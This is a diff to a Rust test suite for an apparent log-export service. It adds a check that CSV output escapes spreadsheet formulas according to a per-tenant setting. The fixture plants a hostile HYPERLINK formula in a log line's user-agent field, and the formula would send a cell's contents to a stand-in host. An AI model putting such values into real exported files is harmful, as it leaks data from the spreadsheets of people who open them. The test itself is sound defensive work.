@@ -835,6 +835,35 @@ async fn a_logs_run_streams_its_rows_in_order_and_leaves_no_temp_files() {
     );
 }
 
+/// A log file whose one line carries a formula in its user agent (a client chooses it).
+fn formula_file() -> Vec<(&'static str, Vec<u8>)> {
+    let hostile = line("00:10:00", 9, "a.example.com")
+        .replace("\tcurl/8\t", "\t=HYPERLINK(\"http://x/?\"&A1;\"x\")\t");
+    vec![(
+        "E.2026-11-01-00.a.gz",
+        gz(&format!("#Version: 1.0\n{FIELDS}\n{hostile}\n")),
+    )]
+}
+
+#[tokio::test]
+async fn csv_formula_escaping_follows_the_tenant_setting() {
+    for (escape, expected) in [(true, ",\"'=HYPERLINK("), (false, ",\"=HYPERLINK(")] {
+        let mut f = fixture(&formula_file()).await;
+        let mut t1 = f.ctx.tenants.get("t1").cloned().expect("t1");
+        t1.csv_escape_formulas = escape;
+        f.ctx.tenants = Arc::new((*f.ctx.tenants).clone().with("t1", t1));
+        logs_task(&f, "t-formula", json!({})).await;
+        let end = run_export(&f.ctx, &job("t-formula"), "run-1")
+            .await
+            .expect("no retry");
+        assert_eq!(end, RunEnd::Succeeded { rows: 1 });
+        let key = record(&f, "t-formula").await.file_key.expect("file key");
+        let text =
+            std::fs::read_to_string(f.root.join("store/results").join(&key)).expect("result file");
+        assert!(text.contains(expected), "escape = {escape}: {text}");
+    }
+}
+
 #[tokio::test]
 async fn a_logs_run_without_its_result_bucket_fails_saying_so() {
     let f = fixture(&day_files()).await;
